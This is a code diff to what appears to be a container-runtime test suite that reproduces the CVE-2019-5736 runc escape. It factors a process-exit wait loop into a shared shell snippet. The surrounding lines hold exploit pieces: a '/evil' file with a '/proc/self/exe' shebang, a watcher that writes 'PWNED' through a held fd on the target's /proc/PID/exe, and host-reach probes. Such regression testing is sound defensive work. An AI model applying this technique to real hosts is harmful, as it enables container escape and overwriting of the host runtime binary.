@@ -189,6 +189,20 @@ fn field<'a>(out: &'a str, key: &str) -> Option<&'a str> {
 
 // ---- CVE-2019-5736 ----------------------------------------------------------------------
 
+/// Both watchers' last step: waits up to 1500 polls for target `$p` to exit, then prints
+/// `target-gone` or `target-still-alive`. Each poll reads /proc/$p/status once: testing
+/// that it exists and then grepping it raced with the zombie being reaped in between (a
+/// failed grep read as "alive"), which failed CI in the VM.
+const WAIT_GONE: &str = r#"gone=
+i=0
+while [ $i -lt 1500 ]; do
+  s=$(cat /proc/$p/status 2>/dev/null) || { gone=1; break; }
+  case "$s" in *"State:"*[ZX]" ("*) gone=1; break ;; esac
+  usleep 10000
+  i=$((i+1))
+done
+if [ -n "$gone" ]; then echo "target-gone"; else echo "target-still-alive"; fi"#;
+
 /// The watcher: finds the process whose command line mentions the trap FIFO (the target,
 /// blocked opening that FIFO for writing), holds a read-only fd on its /proc/PID/exe,
 /// releases it by reading the FIFO, waits until it has gone, then reopens the fd for
@@ -220,16 +234,7 @@ else
 fi
 cat "$F" > /dev/null &
 rel=$!
-i=0
-while [ -e /proc/$p/status ] && ! grep -q '^State:.*[ZX]' /proc/$p/status 2>/dev/null && [ $i -lt 1500 ]; do
-  usleep 10000
-  i=$((i+1))
-done
-if [ -e /proc/$p/status ] && ! grep -q '^State:.*[ZX]' /proc/$p/status 2>/dev/null; then
-  echo "target-still-alive"
-else
-  echo "target-gone"
-fi
+@WAIT_GONE@
 if [ -n "$opened" ]; then
   r=$( (echo PWNED > /proc/self/fd/3) 2>&1 ) && echo "write-trunc-ok" || echo "write-trunc-failed $r"
   r=$( (echo PWNED >> /proc/self/fd/3) 2>&1 ) && echo "write-append-ok" || echo "write-append-failed $r"
@@ -306,7 +311,10 @@ fn exe_attack(env: &Env, stage: Stage, target: Target) -> ExeAttack {
     b.put_file("/evil", &format!("#!/proc/self/exe --log={fifo}\n"), 0o755);
     b.put_file(
         "/watch.sh",
-        &EXE_WATCHER.replace("@FIFO@", &fifo).replace("@PAT@", &pat),
+        &EXE_WATCHER
+            .replace("@WAIT_GONE@", WAIT_GONE)
+            .replace("@FIFO@", &fifo)
+            .replace("@PAT@", &pat),
         0o755,
     );
 
@@ -496,16 +504,7 @@ done
 grep -qs "$M" /proc/$p/cwd/HOSTMARK && echo "REACHED-HOST cwd"
 grep -qs "$M" /proc/$p/root/HOSTMARK && echo "REACHED-HOST root"
 @RELEASE@
-i=0
-while [ -e /proc/$p/status ] && ! grep -q '^State:.*[ZX]' /proc/$p/status 2>/dev/null && [ $i -lt 1500 ]; do
-  usleep 10000
-  i=$((i+1))
-done
-if [ -e /proc/$p/status ] && ! grep -q '^State:.*[ZX]' /proc/$p/status 2>/dev/null; then
-  echo "target-still-alive"
-else
-  echo "target-gone"
-fi
+@WAIT_GONE@
 if [ -n "$opened" ]; then
   r=$( (echo PWNED > /proc/self/fd/3) 2>&1 ) && echo "write-trunc-ok" || echo "write-trunc-failed $r"
 fi
@@ -571,6 +570,7 @@ fn proc_attack(env: &Env, what: ProcTarget) -> ProcAttack {
     b.put_file(
         "/watch.sh",
         &PROC_WATCHER
+            .replace("@WAIT_GONE@", WAIT_GONE)
             .replace("@MARK@", &mark)
             .replace("@RELEASE@", release),
         0o755,
